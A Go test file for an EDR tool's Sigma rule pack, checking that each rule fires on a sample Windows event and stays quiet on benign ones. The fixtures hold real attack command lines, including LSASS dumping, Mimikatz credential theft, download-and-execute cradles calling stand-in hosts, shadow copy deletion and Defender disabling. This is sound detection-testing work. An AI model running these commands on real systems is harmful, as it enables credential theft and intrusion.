package rules_test

import (
	"testing"

	"github.com/edr-lab/edr/detect"
	"github.com/edr-lab/edr/detect/detecttest"
	"github.com/edr-lab/edr/detect/sigma"
	"github.com/edr-lab/edr/event"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func loadShippedSigma(t *testing.T) *sigma.Ruleset {
	rs, errs := sigma.Load([]string{"sigma"}, sigma.Options{Ruleset: "edr/rules", Debug: true})
	for _, e := range errs {
		t.Errorf("shipped rule does not load: %v", e)
	}
	require.Empty(t, errs)
	return rs
}

func TestShippedSigmaPackLoads(t *testing.T) {
	rs := loadShippedSigma(t)
	require.GreaterOrEqual(t, len(rs.Rules()), 20)
	ids := map[string]bool{}
	for _, r := range rs.Rules() {
		assert.Empty(t, r.Unsupported, "%s: logsource maps to no event edr reads", r.Path)
		assert.True(t, r.Standalone, r.Path)
		assert.False(t, ids[r.ID], "duplicate id %s", r.ID)
		ids[r.ID] = true
		_, err := detect.ParseSeverity(r.Level)
		assert.NoError(t, err, r.Path)
		assert.NotEmpty(t, r.Author, r.Path)
		assert.NotEmpty(t, r.Tags, r.Path)
		assert.NotEmpty(t, r.Description, r.Path)
	}
}

const base = int64(1_715_000_000_000_000_000)

// positives has, per shipped rule, an event it must fire on.
var positives = map[string]*event.Event{
	"Whoami Execution": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\whoami.exe`, "CommandLine", "whoami", "OriginalFileName", "whoami.exe"),
	"Whoami Enumerating All Privileges or Groups": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\whoami.exe`, "CommandLine", "whoami /priv"),
	"PowerShell Encoded Command": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"CommandLine", "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
	"LSASS Memory Dump via Comsvcs MiniDump": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\rundll32.exe`,
		"CommandLine", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`),
	"ProcDump Dumping LSASS": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Tools\procdump64.exe`, "CommandLine", `procdump64.exe -accepteula -ma lsass.exe C:\Temp\l.dmp`),
	"Suspicious Process Access to LSASS": detecttest.Sysmon(10, base, "WS1", "SourceImage", `C:\Users\bob\AppData\Local\Temp\m.exe`,
		"TargetImage", `C:\Windows\system32\lsass.exe`, "GrantedAccess", "0x1010"),
	"Shadow Copy Deletion or Backup Catalog Removal": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\vssadmin.exe`, "CommandLine", "vssadmin.exe Delete Shadows /All /Quiet"),
	"Run Key Pointing to a User-Writable Location": detecttest.Sysmon(13, base, "WS1", "EventType", "SetValue", "Image", `C:\Users\bob\AppData\Roaming\u.exe`,
		"TargetObject", `HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, "Details", `C:\Users\bob\AppData\Roaming\u.exe`),
	"Scheduled Task Created to Run From a Suspicious Location": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\schtasks.exe`,
		"CommandLine", `schtasks /create /sc minute /mo 15 /tn Updater /tr C:\Users\Public\u.exe`),
	"Service Installed With a Suspicious Image Path": detecttest.Event(event.ChannelSystem, 7045, base, "WS1", "ServiceName", "updsvc",
		"ImagePath", `%COMSPEC% /c C:\Windows\Temp\x.exe`, "ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"),
	"Certutil Downloading a File":             detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\certutil.exe`, "CommandLine", "certutil.exe -urlcache -split -f http://198.51.100.23/a.exe a.exe"),
	"Mshta Executing Remote or Inline Script": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\mshta.exe`, "CommandLine", "mshta.exe http://malware-c2.example/p.hta"),
	"Regsvr32 Loading a Remote Scriptlet":     detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\regsvr32.exe`, "CommandLine", "regsvr32 /s /n /u /i:http://x.evil.example/f.sct scrobj.dll"),
	"Office Application Spawning a Shell or Script Host": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd.exe /c whoami",
		"ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
	"Local Account Created or Added to Administrators With Net":    detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\net.exe`, "CommandLine", "net user backdoor P@ss1 /add"),
	"Security Audit Log Cleared":                                   detecttest.Event(event.ChannelSecurity, 1102, base, "WS1", "SubjectUserName", "bob"),
	"Event Log Cleared":                                            detecttest.Event(event.ChannelSystem, 104, base, "WS1", "SubjectUserName", "bob", "BackupPath", ""),
	"Event Log Cleared With Wevtutil or PowerShell":                detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\wevtutil.exe`, "CommandLine", "wevtutil.exe cl Security"),
	"Mimikatz Keywords in a PowerShell Script Block":               detecttest.Event(event.ChannelPowerShell, 4104, base, "WS1", "ScriptBlockText", "Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'"),
	"Mimikatz Command Line":                                        detecttest.Sysmon(1, base, "WS1", "Image", `C:\Users\bob\Downloads\m.exe`, "CommandLine", `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`),
	"Defender Real-Time Protection Disabled With Set-MpPreference": detecttest.Event(event.ChannelPowerShell, 4104, base, "WS1", "ScriptBlockText", "Set-MpPreference -DisableRealtimeMonitoring $true"),
	"Defender Disabled From the Command Line": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"CommandLine", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
	"Defender Disabled via Registry Policy": detecttest.Sysmon(13, base, "WS1", "EventType", "SetValue", "Image", `C:\Windows\regedit.exe`,
		"TargetObject", `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, "Details", "DWORD (0x00000001)"),
	"Outbound Connection From a Proxy-Execution Binary": detecttest.Sysmon(3, base, "WS1", "Image", `C:\Windows\System32\rundll32.exe`, "Initiated", "true",
		"Protocol", "tcp", "DestinationIp", "198.51.100.23", "DestinationPort", "443"),
	"DNS Query for a Tunneling or Paste Service by a Non-Browser": detecttest.Sysmon(22, base, "WS1", "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"QueryName", "abcd.ngrok.io", "QueryStatus", "0", "QueryResults", "::ffff:198.51.100.5;"),
	"Executable or Script Dropped Into a Startup Folder": detecttest.Sysmon(11, base, "WS1", "Image", `C:\Users\bob\AppData\Local\Temp\d.exe`,
		"TargetFilename", `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\u.vbs`),
	"WMIC Process Call Create":           detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\wbem\WMIC.exe`, "CommandLine", `wmic /node:10.0.0.9 process call create "cmd /c x"`),
	"PsExec Service Executing a Command": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", `C:\Windows\PSEXESVC.exe`),
	"PowerShell Download Cradle in a Script Block": detecttest.Event(event.ChannelPowerShell, 4104, base, "WS1",
		"ScriptBlockText", `$wc = New-Object System.Net.WebClient; IEX $wc.DownloadString('http://198.51.100.23/s/a.ps1')`),
	"LSASS Opened From Comsvcs.dll": detecttest.Sysmon(10, base, "WS1", "SourceImage", `C:\Windows\System32\rundll32.exe`,
		"TargetImage", `C:\Windows\system32\lsass.exe`, "GrantedAccess", "0x1fffff",
		"CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\comsvcs.dll+3f9f|C:\Windows\System32\rundll32.exe+3bd4`),
	"Executable Started From a Microsoft Folder in Roaming AppData": detecttest.Sysmon(1, base, "WS1",
		"Image", `C:\Users\bob\AppData\Roaming\Microsoft\Network\msupdate.exe`, "ParentImage", `C:\Windows\explorer.exe`),
	"Scheduled Task Registered With an Action in a Writable Folder": detecttest.Event(event.ChannelSecurity, 4698, base, "WS1",
		"TaskName", `\Updater`, "TaskContent", `<Actions><Exec><Command>C:\ProgramData\u\u.exe</Command></Exec></Actions>`),
	"Service Installed From a Writable Folder (Security Audit)": detecttest.Event(event.ChannelSecurity, 4697, base, "WS1",
		"ServiceName", "updsvc", "ServiceFileName", `C:\Windows\Temp\updsvc.exe`),
	"Remote Desktop Enabled From the Command Line": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\reg.exe`,
		"CommandLine", `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`),
}

// grandparentChain needs the process table: Word → cmd → powershell.
func grandparentChain() []*event.Event {
	return []*event.Event{
		detecttest.Sysmon(1, base, "WS2", "ProcessGuid", "{11111111-0000-0000-0000-000000000001}", "ProcessId", "100",
			"Image", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "CommandLine", "WINWORD.EXE /n doc.docm"),
		detecttest.Sysmon(1, base+1e6, "WS2", "ProcessGuid", "{11111111-0000-0000-0000-000000000002}", "ProcessId", "200",
			"Image", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd.exe /c powershell -w hidden",
			"ParentProcessGuid", "{11111111-0000-0000-0000-000000000001}", "ParentProcessId", "100", "ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
		detecttest.Sysmon(1, base+2e6, "WS2", "ProcessGuid", "{11111111-0000-0000-0000-000000000003}", "ProcessId", "300",
			"Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine", "powershell -w hidden",
			"ParentProcessGuid", "{11111111-0000-0000-0000-000000000002}", "ParentProcessId", "200", "ParentImage", `C:\Windows\System32\cmd.exe`),
	}
}

func TestEveryShippedSigmaRuleFires(t *testing.T) {
	rs := loadShippedSigma(t)
	sink := detecttest.NewSink(t)
	eng, err := detect.New(detect.Options{Matchers: []detect.Matcher{detect.NewSigmaMatcher(rs)}, Sink: sink, MatchDebug: detect.MatchDebugFull})
	require.NoError(t, err)
	fired := map[string]bool{}
	for title, ev := range positives {
		n := len(sink.Alerts)
		require.NoError(t, eng.Process(ev))
		var got []string
		for _, a := range sink.Alerts[n:] {
			got = append(got, a.Rule)
			fired[a.Rule] = true
		}
		assert.Contains(t, got, title, "event for %q fired %v", title, got)
	}
	n := len(sink.Alerts)
	for _, ev := range grandparentChain() {
		require.NoError(t, eng.Process(ev))
	}
	var got []string
	for _, a := range sink.Alerts[n:] {
		got = append(got, a.Rule)
		fired[a.Rule] = true
	}
	assert.Contains(t, got, "PowerShell Started Through a Shell by an Office Application")
	for _, r := range rs.Rules() {
		assert.True(t, fired[r.Title], "shipped rule %q (%s) never fired", r.Title, r.Path)
	}
}

func TestShippedRulesStayQuietOnBenignEvents(t *testing.T) {
	rs := loadShippedSigma(t)
	sink := detecttest.NewSink(t)
	eng, err := detect.New(detect.Options{Matchers: []detect.Matcher{detect.NewSigmaMatcher(rs)}, Sink: sink})
	require.NoError(t, err)
	for _, ev := range []*event.Event{
		detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\notepad.exe`, "CommandLine", `notepad.exe C:\notes.txt`, "ParentImage", `C:\Windows\explorer.exe`),
		detecttest.Sysmon(1, base, "WS1", "Image", `C:\Users\bob\AppData\Roaming\Microsoft\Teams\current\Teams.exe`),
		detecttest.Event(event.ChannelSystem, 7045, base, "WS1", "ServiceName", "MpKslDrv",
			"ImagePath", `C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{121EBFC8-03AA-4D92-9D85-7370FCA78BC8}\MpKslDrv.sys`),
		detecttest.Event(event.ChannelSecurity, 4697, base, "WS1", "ServiceName", "MpKslDrv",
			"ServiceFileName", `C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{121EBFC8-03AA-4D92-9D85-7370FCA78BC8}\MpKslDrv.sys`),
		detecttest.Sysmon(10, base, "WS1", "SourceImage", `C:\Windows\System32\svchost.exe`, "TargetImage", `C:\Windows\system32\lsass.exe`,
			"GrantedAccess", "0x1410", "CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\lsasrv.dll+1a0b`),
		detecttest.Sysmon(10, base, "WS1", "SourceImage", `C:\Windows\System32\svchost.exe`, "TargetImage", `C:\Windows\system32\lsass.exe`, "GrantedAccess", "0x1010"),
		detecttest.Sysmon(3, base, "WS1", "Image", `C:\Windows\System32\rundll32.exe`, "Initiated", "true", "DestinationIp", "10.1.2.3"),
		detecttest.Sysmon(22, base, "WS1", "Image", `C:\Program Files\Google\Chrome\Application\chrome.exe`, "QueryName", "x.ngrok.io"),
		detecttest.Sysmon(11, base, "WS1", "Image", `C:\Windows\explorer.exe`, "TargetFilename", `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\app.lnk`),
		detecttest.Sysmon(13, base, "WS1", "EventType", "SetValue", "Image", `C:\Windows\regedit.exe`,
			"TargetObject", `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Vendor`, "Details", `"C:\Program Files\Vendor\v.exe" /background`),
	} {
		require.NoError(t, eng.Process(ev))
	}
	assert.Empty(t, sink.Rules())
}
